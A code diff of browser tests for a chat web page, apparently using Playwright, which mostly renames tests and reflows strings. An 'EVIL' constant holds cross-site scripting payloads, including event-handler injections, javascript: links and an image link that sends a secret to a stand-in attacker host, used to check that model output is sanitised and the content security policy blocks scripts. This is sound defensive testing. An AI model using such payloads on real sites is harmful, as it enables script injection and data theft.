@@ -1,4 +1,4 @@
-"""The web page in a real Chromium, against a small server with scripted answers, and once against the real one."""
+"""The web page in a real Chromium, with scripted answers."""
 
 import json
 import threading
@@ -39,7 +39,7 @@ def test_an_answer_appears_while_it_is_written(site: Site) -> None:
     assert site.request["stream_options"] == {"include_usage": True}
 
 
-def test_finished_blocks_are_not_drawn_again(site: Site) -> None:
+def test_finished_blocks_are_not_redrawn(site: Site) -> None:
     gate = threading.Event()
     site.script.answers.append(
         ["One paragraph.\n\n```python\nprint(1)\n```\n\nNow ", gate, "[more][1].\n\n* and\n* more"]
@@ -58,14 +58,15 @@ def test_finished_blocks_are_not_drawn_again(site: Site) -> None:
     assert [item.strip() for item in user.find(".markdown li").all_inner_texts()] == ["and", "more"]
 
 
-def test_the_end_is_followed_until_the_user_scrolls_up(site: Site) -> None:
+def test_the_view_follows_the_end_until_the_user_scrolls_up(site: Site) -> None:
     gate = threading.Event()
     site.script.answers.append([*LONG, gate, "\n\nThe end."])
     user = site.visit()
     user.send("Hello")
     expect(user.find(".block").last).to_have_text(LONG[-1].strip())
-    end = "document.querySelector('#scroller').scrollHeight - document.querySelector('#scroller').clientHeight"
-    place = "document.querySelector('#scroller').scrollTop"
+    scroller = "document.querySelector('#scroller')"
+    end = f"{scroller}.scrollHeight - {scroller}.clientHeight"
+    place = f"{scroller}.scrollTop"
     user.page.wait_for_function(f"{end} > 500 && Math.abs({place} - ({end})) < 2")
     user.page.evaluate("document.querySelector('#scroller').scrollTo(0, 100)")
     expect(user.button("Jump to the latest message")).to_be_visible()
@@ -77,13 +78,13 @@ def test_the_end_is_followed_until_the_user_scrolls_up(site: Site) -> None:
     expect(user.button("Jump to the latest message")).to_be_hidden()
 
 
-def test_stop_keeps_the_text_and_ends_the_work(site: Site) -> None:
+def test_stop_keeps_the_text_and_ends_the_generation(site: Site) -> None:
     site.script.answers += [["A part of the", threading.Event()], [" whole."]]
     user = site.visit()
     user.send("Hello")
     expect(user.answer).to_have_text("A part of the")
     user.find("#input").press("Escape")
-    assert site.script.gone.wait(5), "the server was not told"
+    assert site.script.gone.wait(5), "the server did not notice the disconnect"
     expect(user.note).to_contain_text("Stopped.")
     user.reload()
     user.sees("Hello", "A part of the")
@@ -92,7 +93,7 @@ def test_stop_keeps_the_text_and_ends_the_work(site: Site) -> None:
     assert site.request["messages"][-1] == {"role": "assistant", "content": "A part of the"}
 
 
-def test_another_answer_stands_beside_the_old_one(site: Site) -> None:
+def test_a_regenerated_answer_keeps_the_old_version(site: Site) -> None:
     site.script.answers += [["Blue."], ["Red."], ["Because."]]
     user = site.visit()
     user.ask("A colour?")
@@ -114,7 +115,7 @@ def test_another_answer_stands_beside_the_old_one(site: Site) -> None:
     user.sees("A colour?", "Red.")
 
 
-def test_an_edit_makes_a_branch(site: Site) -> None:
+def test_an_edit_creates_a_branch(site: Site) -> None:
     site.script.answers += [["Paris."], ["Rome."]]
     user = site.visit()
     user.ask("Capital of France?")
@@ -136,7 +137,7 @@ def test_an_edit_makes_a_branch(site: Site) -> None:
     assert len(site.script.requests) == 2
 
 
-def test_two_conversations_at_once(site: Site) -> None:
+def test_two_conversations_are_answered_at_once(site: Site) -> None:
     gate = threading.Event()
     site.script.answers += [["Slow", gate, " but sure."], ["Quick."]]
     user = site.visit()
@@ -208,22 +209,30 @@ def test_model_and_adapter_are_chosen(site: Site) -> None:
     user.ask("Hello again")
     assert site.request["model"] == "org/large"
     assert site.request["messages"][0] == {"role": "system", "content": "Be exact."}, (
-        "the model's own system text"
+        "the model's own system prompt"
     )
 
 
-EVIL = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
-![picture](https://evil.example/steal?q=secret) [click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>)
-<svg onload="window.hacked = 5"><iframe src="https://evil.example"></iframe> <b onclick="window.hacked = 6">bold</b>
-[x](https://good.example "a\\" onmouseover=\\"window.hacked=7") <style>body { display: none }</style> <form action="https://evil.example"><input name=q></form>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">
-```"><script>window.hacked = 9</script>
-code
-```
-<a id=createElement name=createElement href="//evil.example">clobber</a> <https://good.example/"onmouseover=window.hacked=10>"""
+EVIL = (
+    '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">\n'
+    "![picture](https://evil.example/steal?q=secret) [click](javascript:window.hacked=3) "
+    "[data](data:text/html,<script>window.hacked=4</script>)\n"
+    '<svg onload="window.hacked = 5"><iframe src="https://evil.example"></iframe> '
+    '<b onclick="window.hacked = 6">bold</b>\n'
+    '[x](https://good.example "a\\" onmouseover=\\"window.hacked=7") '
+    "<style>body { display: none }</style> "
+    '<form action="https://evil.example"><input name=q></form>\n'
+    "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">\n'
+    '```"><script>window.hacked = 9</script>\n'
+    "code\n"
+    "```\n"
+    '<a id=createElement name=createElement href="//evil.example">clobber</a> '
+    '<https://good.example/"onmouseover=window.hacked=10>'
+)
 
 
-def test_what_a_model_writes_is_inert(site: Site) -> None:
+def test_html_in_model_output_is_inert(site: Site) -> None:
     site.script.default = [EVIL, "\n\n", *EVIL]
     user = site.visit()
     user.ask(EVIL)
@@ -231,7 +240,7 @@ def test_what_a_model_writes_is_inert(site: Site) -> None:
     expect(user.answer).to_contain_text("window.hacked = 1")
     user.answer.get_by_text("bold").first.click()
     inside = user.page.evaluate(
-        "[...new Set([...document.querySelectorAll('.body *')].map((element) => element.localName))]"
+        "[...new Set([...document.querySelectorAll('.body *')].map((one) => one.localName))]"
     )
     assert set(inside) <= {
         "div",
@@ -249,7 +258,8 @@ def test_what_a_model_writes_is_inert(site: Site) -> None:
         "td",
     }
     links = user.page.evaluate(
-        "[...document.querySelectorAll('.markdown a')].map((a) => [a.getAttribute('href'), a.rel, a.id, a.onmouseover])"
+        "[...document.querySelectorAll('.markdown a')].map((a) => "
+        "[a.getAttribute('href'), a.rel, a.id, a.onmouseover])"
     )
     assert links and {href for href, *_ in links if href} <= {
         "https://evil.example/steal?q=secret",
@@ -260,12 +270,13 @@ def test_what_a_model_writes_is_inert(site: Site) -> None:
     assert user.page.evaluate("window.hacked") is None
 
 
-def test_the_policy_holds_where_the_sanitiser_would_not(site: Site) -> None:
+def test_the_content_security_policy_blocks_scripts(site: Site) -> None:
     user = site.visit()
     for attack in (
         "document.body.insertAdjacentHTML('beforeend', '<img src=x>')",
         "document.body.setAttribute('onclick', 'window.hacked = 1')",
-        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked = 1'}))",
+        "document.body.append("
+        "Object.assign(document.createElement('script'), {text: 'window.hacked = 1'}))",
     ):
         with pytest.raises(Exception, match="Trusted"):
             user.page.evaluate(attack)
@@ -279,9 +290,12 @@ def test_the_policy_holds_where_the_sanitiser_would_not(site: Site) -> None:
     user.faults.clear()
 
 
-def test_dark_and_light(site: Site) -> None:
+def test_the_theme_is_dark_or_light(site: Site) -> None:
     user = site.visit(color_scheme="dark")
-    brightness = "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g).slice(0, 3).reduce((sum, part) => sum + Number(part), 0)"
+    brightness = (
+        "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g)"
+        ".slice(0, 3).reduce((sum, part) => sum + Number(part), 0)"
+    )
     assert user.page.evaluate(brightness) < 150
     user.button("Theme: auto").click()
     assert user.page.evaluate(brightness) > 700
@@ -303,12 +317,15 @@ WIDE = [
 
 
 @pytest.mark.parametrize(("width", "height"), [(360, 640), (320, 568)])
-def test_a_phone_needs_no_sideways_scrolling(site: Site, width: int, height: int) -> None:
+def test_a_phone_needs_no_horizontal_scrolling(site: Site, width: int, height: int) -> None:
     site.script.answers.append(WIDE)
     user = site.visit()
     user.page.set_viewport_size({"width": width, "height": height})
     user.ask("https://example.org/" + "a" * 200)
-    sideways = "[...document.querySelectorAll('html, body, #main, #scroller, #composer, aside')].filter((e) => e.scrollWidth > e.clientWidth + 1).map((e) => e.id)"
+    sideways = (
+        "[...document.querySelectorAll('html, body, #main, #scroller, #composer, aside')]"
+        ".filter((e) => e.scrollWidth > e.clientWidth + 1).map((e) => e.id)"
+    )
     assert user.page.evaluate(sideways) == []
     expect(user.find("#sidebar")).to_be_hidden()
     user.button("Conversations").click()
@@ -324,7 +341,7 @@ def test_a_phone_needs_no_sideways_scrolling(site: Site, width: int, height: int
     expect(user.find("#send")).to_be_in_viewport()
 
 
-def test_by_keyboard_alone(site: Site) -> None:
+def test_the_page_works_with_the_keyboard_alone(site: Site) -> None:
     site.script.answers += [["One."], ["Two."], ["Three", threading.Event()]]
     user = site.visit()
     keys = user.page.keyboard
@@ -351,11 +368,14 @@ def test_by_keyboard_alone(site: Site) -> None:
     keys.press("Control+k")
     expect(user.find("#welcome")).to_be_visible()
     expect(user.find("#input")).to_be_focused()
-    unnamed = "[...document.querySelectorAll('button, input, select, textarea')].filter((e) => !e.ariaLabel && !e.labels?.length && !e.innerText.trim() && e.checkVisibility())"
+    unnamed = (
+        "[...document.querySelectorAll('button, input, select, textarea')].filter((e) => "
+        "!e.ariaLabel && !e.labels?.length && !e.innerText.trim() && e.checkVisibility())"
+    )
     assert user.page.evaluate(f"{unnamed}.map((e) => e.outerHTML)") == []
 
 
-def test_a_busy_server_is_asked_again(site: Site) -> None:
+def test_requests_to_a_busy_server_are_retried(site: Site) -> None:
     site.script.answers += [[busy(1)], ["At last."]]
     user = site.visit()
     user.send("Hello")
@@ -383,7 +403,7 @@ def test_an_error_in_the_middle_keeps_the_text(site: Site, fault: Exception, tol
     expect(user.find(".switch")).to_contain_text("2 / 2")
 
 
-def test_a_full_window_is_the_users_choice(site: Site) -> None:
+def test_the_user_decides_what_to_do_about_a_full_context_window(site: Site) -> None:
     site.script.answers += [[BadRequest("too long", code="context_length_exceeded")], ["Short."]]
     user = site.visit()
     user.ask("Hello")
@@ -394,7 +414,7 @@ def test_a_full_window_is_the_users_choice(site: Site) -> None:
     assert site.request["truncation"] == "auto" and user.find(".switch").count() == 0
 
 
-def test_code_is_copied_as_it_is(site: Site) -> None:
+def test_code_is_copied_unchanged(site: Site) -> None:
     site.script.answers.append(["```html\n<b>&amp;</b>\n\n  two\n```\n"])
     user = site.visit(permissions=["clipboard-read", "clipboard-write"])
     user.ask("Code?")
@@ -403,7 +423,7 @@ def test_code_is_copied_as_it_is(site: Site) -> None:
     assert user.page.evaluate("navigator.clipboard.readText()") == "<b>&amp;</b>\n\n  two"
 
 
-def test_what_was_sent_can_be_seen(site: Site) -> None:
+def test_the_request_can_be_shown(site: Site) -> None:
     site.script.answers.append([{"thinking": "Let me see."}, "Yes."])
     user = site.visit()
     user.ask("Is it?")
